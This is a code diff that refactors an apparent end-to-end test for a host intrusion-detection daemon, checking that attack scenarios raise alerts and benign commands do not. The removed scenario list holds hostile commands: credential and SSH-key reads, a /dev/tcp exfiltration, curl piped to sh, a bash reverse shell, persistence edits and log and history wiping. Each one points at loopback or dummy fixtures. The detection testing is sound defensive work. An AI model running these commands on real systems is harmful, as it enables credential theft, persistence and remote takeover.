@@ -12,7 +12,9 @@ use std::{
 };
 
 use serde_json::Value;
-use vigil_e2e::{ensure_user, free_port, of_type, python, require_root, vigil_bin, Daemon, USER};
+use vigil_e2e::{
+    ensure_user, free_port, of_type, python, require_root, scenarios::Fixtures, vigil_bin, Daemon,
+};
 
 const HELPER: &str = env!("CARGO_BIN_EXE_vigil-test-helper");
 
@@ -21,111 +23,20 @@ fn session(loginuid: u32, home: &Path, script: &str) {
     vigil_e2e::login_session(HELPER, loginuid, home, script);
 }
 
-/// A tiny HTTP server: every request gets `body`.
-fn serve(body: &'static str) -> u16 {
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    std::thread::spawn(move || {
-        for mut conn in listener.incoming().flatten() {
-            let mut buf = [0u8; 4096];
-            let _ = conn.read(&mut buf);
-            let _ = write!(
-                conn,
-                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
-                body.len()
-            );
-        }
-    });
-    port
-}
-
-/// A listener that, like an attacker's, sends commands to whatever connects.
-fn attacker(commands: &'static str, hold: Duration) -> u16 {
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    std::thread::spawn(move || {
-        if let Ok((mut conn, _)) = listener.accept() {
-            std::thread::sleep(hold);
-            let _ = conn.write_all(commands.as_bytes());
-            let mut sink = Vec::new();
-            let _ = conn.read_to_end(&mut sink);
-        }
-    });
-    port
-}
-
-/// A non-loopback address of this host (where "outbound" connections can go in a test).
-fn outbound_address() -> String {
-    let s = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
-    s.connect("192.0.2.1:9").unwrap();
-    s.local_addr().unwrap().ip().to_string()
-}
-
-struct Scenario {
-    name: &'static str,
-    script: String,
-    rule: &'static str,
-    technique: &'static str,
-}
-
 #[test]
 fn every_builtin_scenario_is_detected_and_benign_work_is_not() {
     require_root();
     ensure_user();
     let dir = tempfile::tempdir().unwrap();
     let spool = dir.path().join("spool");
-    let home = dir.path().join("home");
-    std::fs::create_dir_all(&home).unwrap();
-    // Fixtures outside the sessions.
-    let token_dir = Path::new("/run/secrets/kubernetes.io/serviceaccount");
-    let made_token = !token_dir.join("token").exists();
-    if made_token {
-        std::fs::create_dir_all(token_dir).unwrap();
-        std::fs::write(token_dir.join("token"), "eyJhbGciOi.test.token").unwrap();
-    }
-    let suid = dir.path().join("suid-tool");
-    std::fs::copy("/usr/bin/id", &suid).unwrap();
-    Command::new("chmod")
-        .arg("4755")
-        .arg(&suid)
-        .status()
-        .unwrap();
-    Command::new("chmod")
-        .arg("755")
-        .arg(dir.path())
-        .status()
-        .unwrap();
-    let web = serve("#!/bin/sh\necho downloaded-and-run\n");
-    let sink = TcpListener::bind("0.0.0.0:0").unwrap();
-    let sink_port = sink.local_addr().unwrap().port();
-    std::thread::spawn(move || for _c in sink.incoming() {});
-    let shell_port = attacker("exit\n", Duration::from_millis(1500));
-    let out_ip = outbound_address();
-
-    let scenarios = vec![
-        Scenario { name: "shadow", script: "cat /etc/shadow > /dev/null".into(), rule: "credential-store-read", technique: "T1003.008" },
-        Scenario { name: "ssh key", script: "mkdir -p ~/.ssh && echo KEY > ~/.ssh/id_ed25519 && cat ~/.ssh/id_ed25519 > /dev/null".into(), rule: "ssh-private-key-read", technique: "T1552.004" },
-        Scenario { name: "cloud", script: "mkdir -p ~/.aws && echo k > ~/.aws/credentials && cat ~/.aws/credentials > /dev/null".into(), rule: "cloud-credentials-read", technique: "T1552.001" },
-        Scenario { name: "sa token", script: "cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null".into(), rule: "service-account-token-read", technique: "T1528" },
-        Scenario { name: "exfil", script: format!("head -c 60000000 /dev/zero > /dev/null; exec 3<>/dev/tcp/{out_ip}/{sink_port}; sleep 0.2"), rule: "bulk-read-then-outbound", technique: "T1041" },
-        Scenario { name: "sudo", script: format!("su {USER} -s /bin/sh -c 'sudo -n /bin/true'"), rule: "sudo-to-root", technique: "T1548.003" },
-        Scenario { name: "setuid", script: format!("su {USER} -s /bin/sh -c '{}'", suid.display()), rule: "unexpected-setuid-root", technique: "T1548.001" },
-        Scenario { name: "crontab", script: format!("crontab -u {USER} /dev/null"), rule: "crontab-modified", technique: "T1053.003" },
-        Scenario { name: "systemd", script: "touch /etc/systemd/system/vigil-e2e-test.service; rm -f /etc/systemd/system/vigil-e2e-test.service".into(), rule: "systemd-unit-written", technique: "T1543.002" },
-        Scenario { name: "authorized_keys", script: "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys".into(), rule: "authorized-keys-modified", technique: "T1098.004" },
-        Scenario { name: "bashrc", script: "echo 'alias ls=evil' >> ~/.bashrc".into(), rule: "shell-startup-modified", technique: "T1546.004" },
-        Scenario { name: "history", script: "echo old > ~/.bash_history; rm -f ~/.bash_history".into(), rule: "shell-history-cleared", technique: "T1070.003" },
-        Scenario { name: "logs", script: "echo x >> /var/log/vigil-e2e-test.log; truncate -s 0 /var/log/vigil-e2e-test.log; rm -f /var/log/vigil-e2e-test.log".into(), rule: "logs-tampered", technique: "T1070.002" },
-        Scenario { name: "stop monitor", script: "pkill -0 -x vigil; true".into(), rule: "monitoring-stopped", technique: "T1562.001" },
-        Scenario { name: "curl | sh", script: format!("curl -s http://127.0.0.1:{web}/x.sh | sh > /dev/null"), rule: "download-piped-to-shell", technique: "T1059.004" },
-        Scenario { name: "download, run", script: format!("curl -s -o ~/x.sh http://127.0.0.1:{web}/x.sh && chmod +x ~/x.sh && ~/x.sh > /dev/null"), rule: "downloaded-file-executed", technique: "T1105" },
-        Scenario { name: "reverse shell", script: format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{shell_port} 0>&1'"), rule: "reverse-shell", technique: "T1059.004" },
-        Scenario { name: "process memory", script: "dd if=/proc/1/mem of=/dev/null bs=1 count=1 2>/dev/null; true".into(), rule: "process-memory-access", technique: "T1003.007" },
-    ];
-    let benign = "ls -la /etc > /dev/null; df -h > /dev/null; ps aux > /dev/null; uptime; id; \
-                  cat /etc/hostname /etc/os-release > /dev/null; grep -c root /etc/passwd; \
-                  du -sh /usr/share/doc > /dev/null 2>&1; tail -n 5 /var/log/dpkg.log > /dev/null 2>&1; \
-                  find /etc -maxdepth 1 -name '*.conf' > /dev/null; ip addr > /dev/null 2>&1; true";
+    let fixtures = Fixtures::start(dir.path());
+    let home = fixtures.home.clone();
+    let scenarios = fixtures.attacks(false);
+    let benign = fixtures.benign(1).remove(0)
+        + "; ls -la /etc > /dev/null; df -h > /dev/null; ps aux > /dev/null; uptime; id; \
+           cat /etc/hostname /etc/os-release > /dev/null; grep -c root /etc/passwd; \
+           curl -s http://127.0.0.1:1/ > /dev/null; python3 -c 'print(1)' > /dev/null; \
+           sudo -n -u root systemctl is-active cron > /dev/null 2>&1; crontab -l > /dev/null 2>&1; true";
 
     let daemon = Daemon::start_with_spool(Some(&spool), "").expect("daemon starts");
     let base = 30_000 + (std::process::id() % 1000) * 40;
@@ -133,12 +44,10 @@ fn every_builtin_scenario_is_detected_and_benign_work_is_not() {
         session(base + i as u32, &home, &s.script);
     }
     let benign_uid = base + 39;
-    session(benign_uid, &home, benign);
+    session(benign_uid, &home, &benign);
     std::thread::sleep(Duration::from_millis(500));
     let events = daemon.stop().expect("daemon stops");
-    if made_token {
-        let _ = std::fs::remove_dir_all("/run/secrets");
-    }
+    drop(fixtures);
 
     let alerts = of_type(&events, "alert");
     let mut missed = Vec::new();
@@ -202,7 +111,7 @@ fn every_builtin_scenario_is_detected_and_benign_work_is_not() {
     );
     assert!(
         !uids.contains(&((base + 5) as u64)),
-        "sudo session (risk 5) not listed: {:?}",
+        "sudo session (risk 15) not listed: {:?}",
         risky
             .iter()
             .find(|s| s["loginuid"] == base + 5)
